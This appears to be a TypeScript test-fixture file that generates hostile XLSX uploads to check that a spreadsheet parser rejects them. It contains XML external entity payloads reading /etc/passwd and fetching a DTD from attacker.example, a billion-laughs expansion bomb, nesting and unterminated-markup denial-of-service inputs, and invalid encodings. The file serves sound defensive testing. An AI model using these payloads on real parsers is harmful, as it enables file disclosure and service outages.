import { bytesOf, type Hostile, noise, spreadsheets, thick } from './hostile.ts'
import { bookXml, contentTypes, ROWS, relation, relationsXml, sheetXml, text, workbook } from './workbook.ts'
import { joined } from './zip.ts'

const SHEET = 'xl/worksheets/sheet1.xml'
const STRINGS = 'xl/sharedStrings.xml'
const sheet = (xml: string | Uint8Array) => () => workbook({ [SHEET]: xml })
const rows = (xml: string) => sheet(sheetXml(`${ROWS}${thick(xml)}`))
const after = (xml: string, inserted: string) => xml.replace('?>', `?>${inserted}`)

const SECRET = '<!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
const LAUGHS = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${'abcdefghij'[i + 1]} "${`&${'abcdefghij'[i]};`.repeat(10)}">`).join('')}]>`
const PARAMETER = '<!DOCTYPE x [<!ENTITY % far SYSTEM "http://attacker.example/x.dtd"> %far;]>'

const utf16 = (xml: string, isLittle: boolean, hasMark: boolean): Uint8Array => {
  const units = [...(hasMark ? '\uFEFF' : ''), ...xml].map((letter) => letter.charCodeAt(0))
  return Uint8Array.from(units.flatMap((unit) => (isLittle ? [unit & 255, unit >> 8] : [unit >> 8, unit & 255])))
}
const deep = (levels: number) => rows(`${'<a>'.repeat(levels)}${'</a>'.repeat(levels)}`)

/** Markup that declares, nests, hides or never ends. */
export const markup: readonly Hostile[] = [
  ...spreadsheets('upload.doctype', {
    'document type in a sheet': sheet(after(sheetXml(ROWS), SECRET)),
    'document type in the workbook': () => workbook({ 'xl/workbook.xml': after(bookXml(), SECRET) }),
    'document type in the shared texts': () => workbook({ [STRINGS]: `${SECRET}<sst><si><t>&secret;</t></si></sst>` }),
    'document type in the styles': () => workbook({ 'xl/styles.xml': `${SECRET}<styleSheet/>` }),
    'document type in the properties': () => workbook({ 'docProps/core.xml': `${SECRET}<x>&secret;</x>` }),
    'document type in the relationships': () =>
      workbook({
        'xl/_rels/workbook.xml.rels': after(
          relationsXml(relation('rId1', 'worksheet', 'worksheets/sheet1.xml')),
          SECRET,
        ),
      }),
    'document type in the content types': () => workbook({ '[Content_Types].xml': after(contentTypes(), SECRET) }),
    'document type in an old drawing': () => workbook({ 'xl/drawings/vmlDrawing1.vml': `${SECRET}<xml/>` }),
    'document type in small letters': sheet(after(sheetXml(ROWS), SECRET.toLowerCase())),
    'document type behind a byte-order mark': sheet(`\uFEFF${after(sheetXml(ROWS), SECRET)}`),
    'document type behind a comment': sheet(after(sheetXml(ROWS), `<!-- harmless -->${SECRET}`)),
    'document type far down': sheet(`${sheetXml(ROWS)}${' '.repeat(60_000)}${SECRET}`),
    'document type where two pieces meet': sheet(
      after(sheetXml(ROWS), `${noise(8 * 1024 - 100).replaceAll('<', ' ')}<!DOCTYPE x>`),
    ),
    'a billion laughs': sheet(after(sheetXml(`<row r="1">${text('A1', '&j;')}</row>`), LAUGHS)),
    'a billion laughs in the shared texts': () => workbook({ [STRINGS]: `${LAUGHS}<sst><si><t>&j;</t></si></sst>` }),
    'an entity from the web': sheet(after(sheetXml(ROWS), PARAMETER)),
    'an entity without a document type': rows('<!ENTITY a "b">'),
    'a conditional section': rows('<![INCLUDE[<a/>]]>'),
  }),
  ...spreadsheets('upload.not-utf8', {
    'a sheet in UTF-16, little end first': sheet(utf16(sheetXml(ROWS), true, true)),
    'a sheet in UTF-16, big end first': sheet(utf16(sheetXml(ROWS), false, true)),
    'a document type hidden in UTF-16': sheet(utf16(after(sheetXml(ROWS), SECRET), true, true)),
    'UTF-16 without a mark': sheet(utf16(after(sheetXml(ROWS), SECRET), true, false)),
    'NUL in a text': rows(`<row r="3">${text('A3', 'a\0b')}</row>`),
    'bytes that are no UTF-8': sheet(
      joined(bytesOf(sheetXml(ROWS).replace('</sheetData></worksheet>', '')), Uint8Array.of(0xc3, 0x28, 0xff)),
    ),
    'a letter written too long': sheet(
      joined(bytesOf('<worksheet>'), Uint8Array.of(0xc0, 0xbc), bytesOf('</worksheet>')),
    ),
    'a letter cut off at the end': sheet(joined(bytesOf(sheetXml(ROWS)), Uint8Array.of(0xe2, 0x82))),
    'Latin-1 letters': sheet(
      joined(bytesOf('<worksheet><sheetData><row><c t="str"><v>'), Uint8Array.of(0xe9), bytesOf('</v></c></row>')),
    ),
  }),
  ...spreadsheets('upload.letter', {
    'U+FFFE in a text': rows(`<row r="3">${text('A3', 'a\uFFFEb')}</row>`),
    'U+FFFF in a text': rows(`<row r="3">${text('A3', 'a\uFFFFb')}</row>`),
    'a control letter in a text': rows(`<row r="3">${text('A3', 'a\u0001b')}</row>`),
    'a sheet that begins with a byte-order mark the wrong way round': sheet(`\uFFFE${sheetXml(ROWS)}`),
    'such a mark behind a byte-order mark': sheet(`\uFEFF\uFFFE${sheetXml(ROWS)}`),
    'U+FFFE spelt by its number': rows(`<row r="3">${text('A3', 'a&#xFFFE;b')}</row>`),
    'U+FFFE spelt by its number in tens': rows(`<row r="3">${text('A3', 'a&#65534;b')}</row>`),
    'U+FFFE spelt with zeros': rows(`<row r="3">${text('A3', `a&#x${'0'.repeat(80)}fffe;b`)}</row>`),
    'U+FFFE spelt with twenty thousand zeros': rows(
      `<row r="3">${text('A3', `a&#x${'0'.repeat(20_000)}fffe;b`)}</row>`,
    ),
    'NUL spelt by its number': rows(`<row r="3">${text('A3', 'a&#0;b')}</row>`),
    'half a letter spelt by its number': rows(`<row r="3">${text('A3', 'a&#xD83D;b')}</row>`),
    'numbers for letters beyond Unicode': rows(`<row r="3">${text('A3', '&#x110000;&#0;&#xD800;&unknown;')}</row>`),
    'U+FFFE where two pieces meet': rows(`${' '.repeat(7_000)}${'&#xFFFE;'.padStart(2_500)}`),
    'U+FFFE in the shared texts': () => workbook({ [STRINGS]: '<sst><si><t>a\uFFFEb</t></si></sst>' }),
    'U+FFFE in the name of a sheet': () => workbook({ 'xl/workbook.xml': bookXml('Si\uFFFEtes') }),
    'U+FFFE spelt in the name of a sheet': () => workbook({ 'xl/workbook.xml': bookXml('Si&#xfffe;tes') }),
    'U+FFFE in the styles': () => workbook({ 'xl/styles.xml': '<styleSheet><x y="\uFFFE"/></styleSheet>' }),
    'U+FFFE in the properties': () => workbook({ 'docProps/core.xml': '<x>\uFFFE</x>' }),
    'U+FFFE in an old drawing': () => workbook({ 'xl/drawings/vmlDrawing1.vml': '<xml>\uFFFE</xml>' }),
  }),
  ...spreadsheets('upload.letter-in-cell', {
    'U+FFFE as Excel spells letters': rows(`<row r="3">${text('A3', 'a_xFFFE_b')}</row>`),
    'half a letter as Excel spells letters': rows(`<row r="3">${text('A3', 'a_xD83D_b')}</row>`),
    'NUL as Excel spells letters': rows(`<row r="3">${text('A3', 'a_x0000_b')}</row>`),
  }),
  ...spreadsheets('upload.markup', {
    'a hundred levels': deep(100),
    'ten thousand levels': deep(10_000),
    'a million levels': deep(1_000_000),
    'a million levels that never close': sheet(`<worksheet>${thick('<a>'.repeat(1_000_000))}`),
    'a hundred levels in the workbook': () =>
      workbook({ 'xl/workbook.xml': bookXml('Sites', `${'<a>'.repeat(100)}${'</a>'.repeat(100)}`) }),
    'a tag of a megabyte': rows(`<a ${'x="1" '.repeat(170_000)}/>`),
    'a quotation mark that never closes': rows(`<c r="A3><v>${noise(200_000)}`),
    'a comment of a megabyte': rows(`<!--${noise(1_000_000)}-->`),
    'a comment that never closes': rows(`<!--${noise(1_000_000)}`),
    'a million comments inside one': rows(`${'<!--'.repeat(1_000_000)}`),
    'plain text that never closes': rows(`<![CDATA[${noise(1_000_000)}`),
    'an instruction that never closes': rows(`<?x ${noise(1_000_000)}`),
    'a tag in a quotation': rows('<c r="A3" x="<v>"/>'),
  }),
  ...spreadsheets('upload.damaged', {
    'a sheet that stops in a tag': sheet(sheetXml(ROWS).slice(0, -20)),
    'a sheet that does not close': sheet(sheetXml(ROWS).replace('</worksheet>', '')),
    'more closed than opened': rows('</sheetData></worksheet></worksheet>'),
    'a sheet that is a page': sheet('<html><br><p>Name</html>'),
  }),
  ...spreadsheets('read: Sites 0x0', { 'a sheet that is empty': sheet('  ') }),
  ...spreadsheets('read: Sites 3x2', {
    'plain text with a tag in it': rows(
      '<row r="3"><c r="A3" t="inlineStr"><is><t><![CDATA[<!DOCTYPE x>]]></t></is></c></row>',
    ),
    'a hundred thousand instructions': rows(`${'<?x y?>'.repeat(100_000)}<row r="3">${text('A3', 'x')}</row>`),
    'a comment with a document type in it': rows(`<!-- <!DOCTYPE x> --><row r="3">${text('A3', 'x')}</row>`),
  }),
]
